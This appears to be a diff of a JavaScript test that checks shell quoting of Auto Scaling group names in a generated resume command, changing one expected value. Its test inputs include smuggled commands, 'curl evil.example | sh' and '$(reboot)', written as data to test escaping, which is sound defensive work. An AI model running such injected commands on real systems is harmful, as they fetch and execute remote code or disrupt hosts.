@@ -125,7 +125,7 @@ describe('an Auto Scaling group that was kept from terminating', () => {
     groupSuspended(groupName, ['ReplaceUnhealthy', 'Terminate'], own, ['refused']).remedy;
 
   it.each([
-    ['web-asg', "'web-asg'"],
+    ['web-asg', 'web-asg'],
     ['web asg; curl evil.example | sh', "'web asg; curl evil.example | sh'"],
     ["it's $(reboot)", "'it'\\''s $(reboot)'"],
   ])('is one word in the command that resumes it, whatever it is called: %s', (name, word) => {
